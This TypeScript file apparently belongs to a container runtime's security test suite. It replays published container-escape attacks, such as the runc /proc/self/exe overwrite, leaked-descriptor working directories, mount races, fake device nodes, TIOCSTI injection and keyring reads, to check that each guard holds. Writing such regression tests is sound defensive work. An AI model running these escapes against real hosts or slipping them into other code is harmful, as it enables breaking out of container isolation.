import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import {
  closeSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  openSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Spec, TestBundle } from '../bundle.ts';

/** A published way out of a container, tried for real. */
export interface Attack {
  name: string;
  /** What published it. */
  published: string;
  /** The guard of engine/native/runtime/guards.h without which it succeeds. */
  guard: string;
  /** True when it has succeeded. */
  attempt: (bundle: TestBundle) => Promise<boolean>;
}

const here = dirname(fileURLToPath(import.meta.url));

/** Compiles one of the programs beside this file. */
function compile(name: string, output: string): string {
  const flags = ['-static', '-no-pie', '-O1', '-D_GNU_SOURCE'];
  const { status, stderr } = spawnSync('cc', [...flags, join(here, `${name}.c`), '-o', output], {
    encoding: 'utf8',
  });
  if (status !== 0) throw new Error(`cc ${name}.c: ${stderr}`);
  return output;
}

/** A directory of the bundle as the container's /dev, which the image's owner has filled. */
function ownDevices(spec: Spec, bundle: TestBundle, fill: (directory: string) => void): void {
  const directory = join(bundle.bundle, 'devices');
  rmSync(directory, { recursive: true, force: true });
  for (const name of ['pts', 'shm', 'mqueue']) mkdirSync(join(directory, name), { recursive: true });
  fill(directory);
  const dev = spec.mounts.find(({ destination }: { destination: string }) => destination === '/dev');
  Object.assign(dev, { type: 'bind', source: directory, options: ['bind', 'rw'] });
}

async function byDescriptor(bundle: TestBundle): Promise<boolean> {
  const secret = join(bundle.directory, 'secret');
  writeFileSync(secret, 'of the host');
  const root = openSync('/', 'r');
  try {
    for (let number = 3; number < 12; number += 1) {
      bundle.edit((spec) => {
        spec.process.cwd = `/proc/self/fd/${number}`;
        spec.process.args = ['cat', secret.slice(1)];
      });
      const done = await bundle.run(['run', bundle.newId()], { fds: [root] });
      if (done.stdout.includes('of the host')) return true;
    }
    bundle.reset();
    const id = await bundle.running();
    for (let number = 3; number < 12; number += 1) {
      const args = ['exec', '--cwd', `/proc/self/fd/${number}`, id, 'cat', secret.slice(1)];
      if ((await bundle.run(args, { fds: [root] })).stdout.includes('of the host')) return true;
    }
    return false;
  } finally {
    closeSync(root);
  }
}

/** The container executes the runtime's own file, keeps it open, and writes to it once it has ended. */
async function overwriteRuntime(bundle: TestBundle): Promise<boolean> {
  const victim = join(bundle.directory, 'victim');
  copyFileSync(bundle.program, victim);
  const before = readFileSync(victim);
  const id = await bundle.running();
  await bundle.text('exec', id, 'mkfifo', '/dev/shm/wait');
  const line = [
    'while true; do for p in /proc/[0-9]*; do',
    'case "$(readlink $p/exe)" in *victim*|*memfd*) exec 3<$p/exe; break 2;; esac; done; done',
    'cat /dev/shm/wait > /dev/null',
    // The file is busy as long as anybody executes it.
    'n=0; while [ $n -lt 2000 ]; do (echo overwritten > /proc/self/fd/3) 2>/dev/null && break; n=$((n + 1)); done',
  ].join('\n');
  const attacker = bundle.run(['exec', id, 'timeout', '20', 'sh', '-c', line]);
  // Blocks in opening its log until the attacker reads there.
  const own = ['exec', id, '/proc/self/exe', '--log', '/dev/shm/wait', 'features'];
  await bundle.run(own, { program: victim });
  await attacker;
  await bundle.text('delete', '-f', id);
  return !readFileSync(victim).equals(before);
}

/** Mounts below a link of the image that leads to the host, and below a name that is exchanged with one. */
async function mountOutside(bundle: TestBundle): Promise<boolean> {
  const host = join(bundle.directory, 'host');
  mkdirSync(host, { recursive: true });
  rmSync(join(bundle.rootfs, 'vol'), { recursive: true, force: true });
  mkdirSync(join(bundle.rootfs, 'vol/dir'), { recursive: true });
  symlinkSync(host, join(bundle.rootfs, 'vol/link'));
  const mount = (destination: string) =>
    bundle.sh('true', (spec) => spec.mounts.push({ destination, type: 'tmpfs', source: 'tmpfs' }));
  await mount('/vol/link/made');
  if (existsSync(join(host, 'made'))) return true;
  const exchange = compile('exchange', join(bundle.directory, 'exchange'));
  const racer = spawn(exchange, [join(bundle.rootfs, 'vol/dir'), join(bundle.rootfs, 'vol/link')]);
  try {
    await once(racer.stdout, 'data');
    for (let round = 0; round < 10; round += 1) {
      bundle.reset();
      await mount(`/vol/dir/made${round}`);
      if (existsSync(join(host, `made${round}`))) return true;
    }
    return false;
  } finally {
    racer.kill('SIGKILL');
    await once(racer, 'exit');
  }
}

async function mountOnProc(bundle: TestBundle): Promise<boolean> {
  const covered = await bundle.sh('true', (spec) =>
    spec.mounts.push({ destination: '/proc/self/attr', type: 'tmpfs', source: 'tmpfs' }),
  );
  if (covered.code === 0) return true;
  bundle.reset();
  symlinkSync('/proc/self/attr', join(bundle.rootfs, 'attr'));
  const byLink = await bundle.sh('true', (spec) =>
    spec.mounts.push({ destination: '/attr', type: 'tmpfs', source: 'tmpfs' }),
  );
  if (byLink.code === 0) return true;
  bundle.reset();
  rmSync(join(bundle.rootfs, 'proc'), { recursive: true });
  mkdirSync(join(bundle.rootfs, 'elsewhere'));
  symlinkSync('/elsewhere', join(bundle.rootfs, 'proc'));
  return (await bundle.sh('true')).code === 0;
}

async function fakeNull(bundle: TestBundle): Promise<boolean> {
  const done = await bundle.sh('cat /etc/passwd', (spec) => {
    ownDevices(spec, bundle, (directory) => writeFileSync(join(directory, 'null'), 'of the attacker'));
    spec.linux.maskedPaths.push('/etc/passwd');
  });
  return done.stdout.includes('of the attacker');
}

async function movedConsole(bundle: TestBundle): Promise<boolean> {
  const done = await bundle.sh('test -c /etc/passwd && echo moved', (spec) => {
    ownDevices(spec, bundle, (directory) => symlinkSync('/etc/passwd', join(directory, 'console')));
    spec.linux.maskedPaths = [];
    spec.process.terminal = true;
  });
  return done.stdout.includes('moved');
}

async function writeCgroups(bundle: TestBundle): Promise<boolean> {
  const line =
    'for d in /sys/fs/cgroup /sys/fs/cgroup/*; do mkdir $d/way-out 2>/dev/null && echo made; done; true';
  const plain = await bundle.sh(line);
  if (plain.stdout.includes('made')) return true;
  bundle.reset();
  const namespaced = await bundle.sh(line, (spec) => {
    const has = spec.linux.namespaces.some(({ type }: { type: string }) => type === 'cgroup');
    if (!has) spec.linux.namespaces.push({ type: 'cgroup' });
    spec.linux.namespaces.push({ type: 'user' });
    const map = [{ containerID: 0, hostID: 100_000, size: 65_536 }];
    Object.assign(spec.linux, { uidMappings: map, gidMappings: map });
  });
  return namespaced.stdout.includes('made');
}

async function writeSettings(bundle: TestBundle): Promise<boolean> {
  // What is written is what was there: nobody is harmed where it works.
  const line = 'f=/proc/sys/kernel/core_pattern; v="$(cat $f)"; echo "$v" > $f && echo written';
  return (await bundle.sh(line)).stdout.includes('written');
}

async function typeIntoTerminal(bundle: TestBundle): Promise<boolean> {
  compile('type', join(bundle.rootfs, 'bin/type-command'));
  bundle.edit((spec) => {
    spec.process.args = ['type-command'];
  });
  const line = `${bundle.program} --root ${bundle.root} run -b ${bundle.bundle} ${bundle.newId()}`;
  const { stdout } = spawnSync('script', ['-qec', line, '/dev/null'], { encoding: 'utf8' });
  return stdout.includes('typed');
}

async function readKeyring(bundle: TestBundle): Promise<boolean> {
  const program = compile('keyring', join(bundle.rootfs, 'bin/keyring'));
  bundle.edit((spec) => {
    spec.process.args = ['keyring', 'find'];
  });
  const args = ['hold', bundle.program, '--root', bundle.root, 'run', '-b', bundle.bundle, bundle.newId()];
  return spawnSync(program, args, { encoding: 'utf8' }).stdout.includes('opensesame');
}

async function callOtherMachine(bundle: TestBundle): Promise<boolean> {
  compile('foreign-call', join(bundle.rootfs, 'bin/foreign-call'));
  const done = await bundle.sh('foreign-call', (spec) => {
    spec.linux.seccomp = {
      defaultAction: 'SCMP_ACT_ALLOW',
      syscalls: [{ names: ['mkdir', 'mkdirat'], action: 'SCMP_ACT_ERRNO' }],
    };
  });
  return done.stdout.includes('made');
}

async function keepCapabilities(bundle: TestBundle): Promise<boolean> {
  const inherited = (status: string) => !/CapInh:\s+0+$/m.test(status);
  const run = await bundle.sh('cat /proc/self/status');
  if (inherited(run.stdout)) return true;
  bundle.reset();
  const id = await bundle.running();
  return inherited(await bundle.text('exec', '--cap', 'CAP_NET_RAW', id, 'cat', '/proc/self/status'));
}

export const attacks: Attack[] = [
  {
    name: 'a working directory behind a descriptor that was left open',
    published: 'CVE-2024-21626',
    guard: 'DESCRIPTORS',
    attempt: byDescriptor,
  },
  {
    name: 'overwriting the runtime through /proc/self/exe',
    published: 'CVE-2019-5736',
    guard: 'SEALED_BINARY',
    attempt: overwriteRuntime,
  },
  {
    name: 'a mount whose target leads out of the root, also by a race',
    published: 'CVE-2021-30465, CVE-2023-27561',
    guard: 'IN_ROOT',
    attempt: mountOutside,
  },
  {
    name: 'a mount over procfs, and a procfs that the image has put elsewhere',
    published: 'CVE-2019-19921, CVE-2025-52881',
    guard: 'PROC',
    attempt: mountOnProc,
  },
  {
    name: 'a null device that is none, in place of a masked file',
    published: 'CVE-2025-31133',
    guard: 'NULL_DEVICE',
    attempt: fakeNull,
  },
  {
    name: 'a console that is bound where a link of /dev leads',
    published: 'CVE-2025-52565',
    guard: 'CONSOLE',
    attempt: movedConsole,
  },
  {
    name: 'making cgroups from inside, with and without a user namespace',
    published: 'CVE-2023-25809',
    guard: 'CGROUP_READ_ONLY',
    attempt: writeCgroups,
  },
  {
    name: 'writing core_pattern',
    published: 'settings of the kernel that name a program; release_agent is one too (CVE-2022-0492)',
    guard: 'READ_ONLY_PATHS',
    attempt: writeSettings,
  },
  {
    name: 'typing into the terminal of the host',
    published: 'TIOCSTI',
    guard: 'SESSION',
    attempt: typeIntoTerminal,
  },
  {
    name: 'reading the session keyring of the host',
    published: 'keyring',
    guard: 'KEYRING',
    attempt: readKeyring,
  },
  {
    name: 'system calls of another machine past the filter',
    published: '32-bit calls',
    guard: 'FOREIGN_CALLS',
    attempt: callOtherMachine,
  },
  {
    name: 'capabilities that files can inherit',
    published: 'CVE-2022-29162, CVE-2022-24769',
    guard: 'INHERITABLE',
    attempt: keepCapabilities,
  },
];
